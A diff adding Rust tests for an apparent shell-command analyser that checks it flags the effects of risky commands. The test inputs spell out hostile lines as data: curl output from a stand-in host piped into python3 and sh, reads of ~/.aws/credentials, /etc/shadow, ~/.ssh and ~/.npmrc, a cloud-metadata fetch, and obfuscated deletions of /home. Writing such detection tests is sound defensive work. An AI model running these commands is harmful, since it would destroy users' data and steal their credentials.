@@ -294,6 +294,63 @@ fn programs_do_what_they_do() {
 }
 
 #[test]
+fn a_module_of_python_is_the_program_and_its_input_is_data() {
+    let all = |line: &str| {
+        let reading = read(line, Some(Shell::Sh));
+        reading.effects.iter().map(tell).collect::<Vec<_>>()
+    };
+    let fetched = all("curl -s https://a.example/x | python3 -m json.tool");
+    assert!(fetched.iter().all(|effect| !effect.contains("its input")), "{fetched:?}");
+    for line in [
+        "curl -s https://a.example/x | python3 -m code",
+        "curl -s https://a.example/x | python3 -u -",
+        "curl -s https://a.example/x | python3 -m base64 -d | sh",
+    ] {
+        assert!(all(line).iter().any(|effect| effect.contains("its input")), "{line}: {:?}", all(line));
+    }
+    for (line, wanted) in [
+        ("python3 -m json.tool ~/.aws/credentials", "read ~/.aws/credentials (credential)"),
+        (
+            "python3 -Im timeit \"__import__('os').system('cat /etc/shadow')\"",
+            "read /etc/shadow (credential)",
+        ),
+        ("python3 -mzipfile -e x.zip /etc/cron.d", "write /etc/cron.d"),
+        ("python3 -m http.server -d ~/.ssh", "read ~/.ssh (credential)"),
+        ("echo 'import os' > m.py; python3 -m m", "execute m.py"),
+        ("python3 -m cProfile -o out /tmp/x.py", "execute /tmp/x.py"),
+    ] {
+        assert!(all(line).iter().any(|effect| effect.starts_with(wanted)), "{line}: {:?}", all(line));
+    }
+}
+
+#[test]
+fn code_that_spells_its_words_is_read() {
+    let all = |line: &str| {
+        let reading = read(line, Some(Shell::Sh));
+        reading.effects.iter().map(tell).collect::<Vec<_>>()
+    };
+    for (line, wanted) in [
+        (
+            "python3 -c \"import subprocess as s;s.run(bytes([114,109,32,45,114,102,32,47,104,111,109,101]).decode().split())\"",
+            "delete /home",
+        ),
+        ("node -e \"require('fs').readFileSync(process.env.HOME+'/.npmrc')\"", "read ~/.npmrc"),
+        (
+            "ruby -e 'Dir[File.expand_path(\"~/.{netrc,npmrc}\")].each{|p| puts File.read(p)}'",
+            "read ~/.netrc",
+        ),
+        (
+            "python3 -c \"import urllib.request as u;u.urlopen('http://'+'.'.join(map(str,(169,254,169,254))))\"",
+            "fetch 169.254.169.254",
+        ),
+        ("python3 -c \"import secretstorage\"", "secret:access a store of passwords"),
+        ("awk 'BEGIN{system(\"c\" \"at /etc/sh\" \"adow\")}'", "read /etc/shadow (credential)"),
+    ] {
+        assert!(all(line).iter().any(|effect| effect.starts_with(wanted)), "{line}: {:?}", all(line));
+    }
+}
+
+#[test]
 fn programs_nobody_knows_still_show_what_they_are_given() {
     does(
         "nroff ~/.aws/credentials",
